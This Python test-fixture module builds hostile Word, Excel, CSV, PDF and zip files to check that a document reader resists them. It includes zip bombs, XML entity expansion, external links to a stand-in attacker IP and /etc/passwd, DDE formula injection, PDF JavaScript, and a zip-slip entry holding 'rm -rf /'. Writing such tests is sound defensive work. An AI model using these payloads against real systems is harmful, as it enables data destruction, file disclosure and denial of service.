"""Files that somebody may send to stop, mislead or take over the reader: made by hand, small, known to bite.

From the traps that were met when the readers were chosen: sizes that lie, cells that are far away, pages that
point to themselves, documents that grow when they are unpacked.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
import xlsxwriter
from PIL import Image
from reportlab.lib import colors
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas
from reportlab.platypus import SimpleDocTemplate, Table, TableStyle

from tests.unit.documents.reading.word.word_files import (
    STRICT,
    cell,
    paragraph,
    raw_word_file,
    row,
    table,
    word_file,
)

HEADINGS = ("Date", "Time", "Source", "Event", "People", "Action")
ROWS = (
    ("12/03/2021", "09:30", "Visit note", "Home visit. Baby seen asleep.", "Mother; baby", "Return in a week."),
    ("19/03/2021", "10:00", "Visit note", "No reply at the door.", "Health visitor", "Card left."),
    ("22/03/2021", "", "Phone log", "Mother rang to say all was well.", "Mother", "None."),
)

# ---------------------------------------------------------------- Word


def word(rows: tuple[tuple[str, ...], ...] = ROWS) -> bytes:
    return word_file("Agency: Millpond Surgery", [HEADINGS, *rows])


def word_body(extra_cell: str = "", before: str = "", after: str = "") -> str:
    rows = [row(*HEADINGS), *(row(*line) for line in ROWS)]
    if extra_cell:
        rows[2] = row(*ROWS[1][:3], extra_cell, *ROWS[1][4:])
    return before + table(*rows) + after


def far_span() -> bytes:
    return raw_word_file(word_body(cell(ROWS[1][3], '<w:gridSpan w:val="10000000"/>')))


def million_paragraphs() -> bytes:
    return raw_word_file(word_body(after="<w:p/>" * 1_000_000))


def nested_tables(depth: int) -> bytes:
    inside = paragraph("the innermost words")
    for _ in range(depth):
        inside = f"{table(row(f'<w:tc>{inside}</w:tc>'))}<w:p/>"
    return raw_word_file(word_body(f"<w:tc>{inside}</w:tc>"))


def deep_elements() -> bytes:
    return raw_word_file(word_body(after="<w:sdt><w:sdtContent>" * 50_000 + "</w:sdtContent></w:sdt>" * 50_000))


def with_dtd(entity: str) -> bytes:
    parts = _parts(raw_word_file(word_body(cell("&x;"))))
    dtd = f'<!DOCTYPE w [<!ENTITY y "{"lol" * 100}"><!ENTITY x {entity}>]>'
    parts["word/document.xml"] = dtd.encode() + parts["word/document.xml"]
    return _zip(parts)


def outside_links() -> bytes:
    parts = _parts(raw_word_file(word_body()))
    parts["word/_rels/document.xml.rels"] = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/>'
        b'<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file:///etc/passwd" TargetMode="External"/>'
        b'<Relationship Id="r3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments"'
        b' Target="../../../../etc/passwd"/></Relationships>'
    )
    return _zip(parts)


def relations_in_a_circle() -> bytes:
    parts = _parts(raw_word_file(word_body()))
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", b"_rels/.rels")
    return _zip(parts)


def template_words() -> bytes:
    """Words that would end a paragraph, run code or vanish in a template that fills itself carelessly."""
    bites = "a </w:p></w:tc> b {{ 7*7 }} {% for x in y %} {_{ z }_} =cmd|'/c calc'!A1 <script>alert(1)</script>"
    return word((*ROWS[:2], (*ROWS[2][:3], bites, *ROWS[2][4:])))


def forbidden_letters() -> bytes:
    parts = _parts(raw_word_file(word_body(cell("seen &#0; at &#x1F; home"))))
    return _zip(parts)


def macros() -> bytes:
    parts = _parts(word())
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .replace(b"wordprocessingml.document.main+xml", b"document.macroEnabled.main+xml")
        .replace(
            b"application/vnd.openxmlformats-officedocument.document.macro",
            b"application/vnd.ms-word.document.macro",
        )
    )
    return _zip(parts)


# ---------------------------------------------------------------- Excel


def excel() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("Chronology")
        for number, line in enumerate((HEADINGS, *ROWS)):
            sheet.write_row(number, 0, line)
    return out.getvalue()


def _in_sheet(old: bytes, new: bytes) -> bytes:
    parts = _parts(excel())
    assert old in parts["xl/worksheets/sheet1.xml"], old
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(old, new, 1)
    return _zip(parts)


def far_cell() -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'
    return _in_sheet(b"</sheetData>", far)


def far_dimension() -> bytes:
    return _in_sheet(b'ref="A1:F4"', b'ref="A1:XFD1048576"')


def far_row_numbers() -> bytes:
    return _in_sheet(b'<row r="4"', b'<row r="4294967295"')


def blank_rows() -> bytes:
    rows = b"".join(b'<row r="%d"/>' % number for number in range(5, 1_048_577, 2))
    return _in_sheet(b"</sheetData>", rows + b"</sheetData>")


def strings_that_are_not_there() -> bytes:
    parts = _parts(excel())
    claimed = b'count="4294967295" uniqueCount="4294967295"'
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(b'count="23" uniqueCount="22"', claimed)
    return _zip(parts)


def string_numbers_too_high() -> bytes:
    return _in_sheet(b'<c r="D2" t="s"><v>9</v>', b'<c r="D2" t="s"><v>99999999</v>')


def merged_over_all() -> bytes:
    merged = (
        b'</sheetData><mergeCells count="2"><mergeCell ref="A2:XFD1048576"/><mergeCell ref="B2:A1"/></mergeCells>'
    )
    return _in_sheet(b"</sheetData>", merged)


def numbers_without_end() -> bytes:
    number = b'<c r="A5"><v>1e308</v></c><c r="B5"><v>-1</v></c><c r="D5" t="e"><v>#REF!</v></c>'
    return _in_sheet(b"</sheetData>", b'<row r="5">' + number + b"</row></sheetData>")


def formulas() -> bytes:
    formula = b'<c r="A5" t="str"><f>HYPERLINK("http://203.0.113.9/"&amp;A1)</f><v>23/03/2021</v></c>'
    formula += b'<c r="D5" t="str"><f>cmd|\'/c calc\'!A1</f><v>Seen at home.</v></c>'
    return _in_sheet(b"</sheetData>", b'<row r="5">' + formula + b"</row></sheetData>")


def strict_excel() -> bytes:
    names = {
        b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
        b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": (
            b"http://purl.oclc.org/ooxml/officeDocument/relationships"
        ),
    }
    parts = _parts(excel())
    for name, content in parts.items():
        for old, new in names.items():
            content = content.replace(old, new)
        parts[name] = content
    return _zip(parts)


def ods(repeat_rows: int = 1, repeat_columns: int = 1) -> bytes:
    """An OpenDocument sheet whose last cell is said to stand there so many times."""
    lines = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
            for text in line
        )
        + "</table:table-row>"
        for line in (HEADINGS, *ROWS)
    )
    if repeat_rows > 1:
        lines += (
            f'<table:table-row table:number-rows-repeated="{repeat_rows}">'
            f'<table:table-cell table:number-columns-repeated="{repeat_columns}" office:value-type="string">'
            "<text:p>again</text:p></table:table-cell></table:table-row>"
        )
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    content = (
        f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet>'
        f'<table:table table:name="Chronology">{lines}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as held:
        held.writestr("mimetype", mime)
        held.writestr("META-INF/manifest.xml", manifest)
        held.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


# ---------------------------------------------------------------- CSV


def comma(rows: tuple[tuple[str, ...], ...] = ROWS) -> str:
    return "\r\n".join(",".join(f'"{text}"' for text in line) for line in (HEADINGS, *rows)) + "\r\n"


def endless_quote() -> bytes:
    return (comma() + '"23/03/2021,"Seen' + "\r\n" + "x,y\r\n" * 1000).encode()


def letters_that_end_words() -> bytes:
    return comma().replace("Baby", "B\x1ea\x0bb\x1fy\x85").encode()


def with_nothing_letters() -> bytes:
    return comma().replace("Baby", "B\x00aby").encode()


def half_letters() -> bytes:
    return comma().replace("Baby", "B\ud800aby").encode("utf-16-le", "surrogatepass")


def one_huge_cell() -> bytes:
    return comma((*ROWS[:2], (*ROWS[2][:3], "word " * 2_000_000, "", ""))).encode()


def sixteen_thousand_columns() -> bytes:
    return (comma() + "," * 16_000 + "\r\n").encode()


def million_commas() -> bytes:
    return (comma() + ",,,,,\r\n" * 1_000_000).encode()


# ---------------------------------------------------------------- PDF


def pdf(turn: int = 0) -> bytes:
    out = io.BytesIO()
    made = Table([HEADINGS, *ROWS], colWidths=[70, 45, 70, 170, 80, 90])
    made.setStyle(TableStyle([("GRID", (0, 0), (-1, -1), 0.5, colors.black), ("FONTSIZE", (0, 0), (-1, -1), 8)]))
    SimpleDocTemplate(out, pagesize=A4, leftMargin=30, rightMargin=30).build([made])
    if not turn:
        return out.getvalue()
    return _changed(out.getvalue(), lambda made: setattr(made.pages[0], "Rotate", turn))


def turned_round() -> bytes:
    """A page drawn upside down and told to be turned by half: it looks upright."""

    def turn(made: pikepdf.Pdf) -> None:
        page = made.pages[0]
        page.contents_add(f"q -1 0 0 -1 {A4[0]} {A4[1]} cm".encode(), prepend=True)
        page.contents_add(b"Q")
        page.Rotate = 180

    return _changed(pdf(), turn)


def no_pages() -> bytes:
    out = io.BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


def pictures() -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, pagesize=A4)
    canvas.drawImage(ImageReader(Image.new("RGB", (60, 80), "white")), 0, 0, *A4)
    canvas.save()
    return out.getvalue()


def locked(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="owner", user=user))
    return out.getvalue()


def scripts() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS="app.launchURL('http://203.0.113.9/')"
        )
        made.attachments["evil.exe"] = b"MZ\x90\x00"

    return _changed(pdf(), add)


def adobe_form() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        made.Root.NeedsRendering = True
        made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=made.make_stream(b"<xdp:xdp/>"))

    return _changed(pdf(), add)


def huge_page() -> bytes:
    return _changed(pdf(), lambda made: setattr(made.pages[0], "MediaBox", pikepdf.Array([0, 0, 2**31, 2**31])))


def bomb_of_drawing(size: int) -> bytes:
    """A page whose drawing unpacks to `size` bytes of spaces."""
    squeezed = zlib.compress(zlib.compress(b" " * size, 9), 9)

    def add(made: pikepdf.Pdf) -> None:
        stream = pikepdf.Stream(made, squeezed)
        stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        made.pages[0].Contents = pikepdf.Array([made.pages[0].Contents, made.make_indirect(stream)])

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        add(made)
        made.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, recompress_flate=False)
    return out.getvalue()


def huge_picture() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        picture = pikepdf.Stream(made, b"\x00")
        picture.Type, picture.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
        picture.Width, picture.Height, picture.BitsPerComponent = 2**31 - 1, 2**31 - 1, 16
        picture.ColorSpace = pikepdf.Name.DeviceRGB
        page = made.pages[0]
        page.Resources.XObject = pikepdf.Dictionary(Big=made.make_indirect(picture))
        page.contents_add(b"q 500 0 0 500 0 0 cm /Big Do Q")

    return _changed(pdf(), add)


def forms_that_draw_each_other(depth: int = 22) -> bytes:
    """Each form draws the next one twice: 2**22 drawings of a page of 3 KB."""

    def add(made: pikepdf.Pdf) -> None:
        form = made.make_indirect(_form(made, b"BT /F1 8 Tf (x) Tj ET", {}))
        for _ in range(depth):
            form = made.make_indirect(_form(made, b"/N Do /N Do", {"/N": form}))
        page = made.pages[0]
        page.Resources.XObject = pikepdf.Dictionary({"/Top": form})
        page.contents_add(b"q /Top Do Q")

    return _changed(pdf(), add)


def form_that_draws_itself() -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        form = made.make_indirect(_form(made, b"/N Do", {}))
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary({"/N": form}))
        page = made.pages[0]
        page.Resources.XObject = pikepdf.Dictionary({"/N": form})
        page.contents_add(b"q /N Do Q")

    return _changed(pdf(), add)


def _form(made: pikepdf.Pdf, drawing: bytes, inside: Mapping[str, pikepdf.Object]) -> pikepdf.Stream:
    form = pikepdf.Stream(made, drawing)
    form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, pikepdf.Array([0, 0, 100, 100])
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(dict(inside)))
    return form


def by_hand(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is its root."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def pages_in_a_circle() -> bytes:
    return by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 3 /Kids [3 0 R 2 0 R] >>",
        b"<< /Type /Pages /Count 2 /Parent 2 0 R /Kids [2 0 R 3 0 R] >>",
    )


def many_pages() -> bytes:
    """One page, listed 200,000 times."""
    return by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 200000 /Kids [" + b"3 0 R " * 200_000 + b"] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 "
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length 35 >>\nstream\nBT /F1 12 Tf 50 700 Td (Word) Tj ET\nendstream",
    )


def count_that_lies() -> bytes:
    return by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 2147483647 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )


def brackets_without_end() -> bytes:
    return by_hand(b"<< /Type /Catalog /Pages " + b"[" * 100_000 + b" >>")


def table_that_points_to_itself() -> bytes:
    data = pdf()
    at = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    return data.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % at)


def letters_without_names() -> bytes:
    """A font whose letters have no names that text could be made of, and some that no text may hold."""

    def change(made: pikepdf.Pdf) -> None:
        letters = b"<42> <0000> <61> <0008> <62> <D800> <79> <FFFF>"
        for font in made.pages[0].Resources.Font.values():
            font.ToUnicode = made.make_stream(
                b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <00> <FF> "
                b"endcodespacerange 4 beginbfchar " + letters + b" endbfchar endcmap end"
            )

    return _changed(pdf(), change)


def _changed(data: bytes, change: Callable[[pikepdf.Pdf], None]) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as made:
        change(made)
        made.save(out)
    return out.getvalue()


# ---------------------------------------------------------------- archives


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as held:
        return {name: held.read(name) for name in held.namelist()}


def _zip(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as held:
        for name, content in parts.items():
            held.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    """A healthy return with a part beside it that unpacks to 300 MB."""
    parts = _parts(word())
    parts["word/media/picture.bin"] = bytes(300 * 1024 * 1024)
    return _zip(parts)


def bomb_in_the_words() -> bytes:
    parts = _parts(word())
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"Baby seen", b"Baby seen" + b" " * 250_000_000
    )
    return _zip(parts)


def lying_size() -> bytes:
    """The directory says that the document is 10 bytes long."""
    data = bytearray(word())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + length] == b"word/document.xml":
            struct.pack_into("<L", data, at + 24, 10)
        at += 4
    return bytes(data)


def parts_over_each_other() -> bytes:
    """Two names in the directory for the same place."""
    parts = _parts(word())
    parts["word/documenu.xml"] = b"<x/>"
    data = bytearray(_zip(parts))
    places = {}
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        length = struct.unpack_from("<H", data, at + 28)[0]
        places[bytes(data[at + 46 : at + 46 + length])] = at
        at += 4
    struct.pack_into(
        "<L", data, places[b"word/documenu.xml"] + 42,
        struct.unpack_from("<L", data, places[b"word/document.xml"] + 42)[0],
    )  # fmt: skip
    return bytes(data)


def path_outside() -> bytes:
    return _zip({**_parts(word()), "../../../../tmp/evil.sh": b"rm -rf /"})


def many_parts() -> bytes:
    return _zip({**_parts(word()), **{f"word/media/p{number}.png": b"" for number in range(20_000)}})


def strict_word() -> bytes:
    return raw_word_file(word_body(), namespace=STRICT)
